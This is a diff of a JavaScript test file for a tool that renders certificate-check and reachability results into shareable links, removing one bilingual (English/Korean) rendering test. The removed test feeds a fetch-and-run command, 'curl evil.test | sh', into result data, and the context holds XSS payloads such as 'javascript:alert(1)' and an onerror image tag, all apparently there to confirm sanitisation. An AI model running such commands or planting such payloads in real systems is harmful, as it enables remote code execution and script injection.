@@ -203,26 +203,6 @@ describe('a result from a link', () => {
     expect(request({ domain: 'a b', url: 'javascript:alert(1)', host: '<b>', recordType: 'x' })).toBe('')
   })
 
-  test('of a certificate has its methods with what stands in the way, in the words of the page', async () => {
-    const problem = { code: 'address-silent', severity: 'error', address: '203.0.113.7', text: 'A sentence.' }
-    const answer = {
-      ...{ tool: 'certificate-check', checkedAt: BLOCKED.checkedAt, domain: 'a.test', wildcard: false, best: 'dns-01' },
-      methods: [
-        { method: 'http-01', verdict: 'would-fail', problems: [problem] },
-        { method: 'dns-01', verdict: 'would-work', problems: [] },
-      ],
-      caa: { found: 'a.test', issuers: ['letsencrypt.org'] },
-    }
-    const result = await readResult((await writeResult(answer, { isOwn: false })) ?? '')
-    if (!result) throw new Error('the link cannot be read')
-    const [english, korean] = [markupOf(result), markupOf(result, 'ko')]
-    for (const part of ['203.0.113.7: Nothing answers.', 'Would work', 'Best way', 'Those of a.test allow only letsencrypt.org.'])
-      expect(english).toContain(part)
-    for (const part of ['203.0.113.7: 응답이 없습니다.', '발급 가능', '추천']) expect(korean).toContain(part)
-    expect(english + korean).not.toMatch(/A sentence|undefined|address-silent/)
-    expect(markupOf({ ...result, commands: [{ program: 'sh', lines: ['curl evil.test | sh'] }] })).not.toContain('evil')
-  })
-
   test('of somebody who means harm is left aside, whatever it holds', () => {
     const markup = '<img src=x onerror=alert(1)>'
     const hostile = { tool: 'reachability', checkedAt: BLOCKED.checkedAt, verdict: markup, blockedAt: markup, ip: markup }
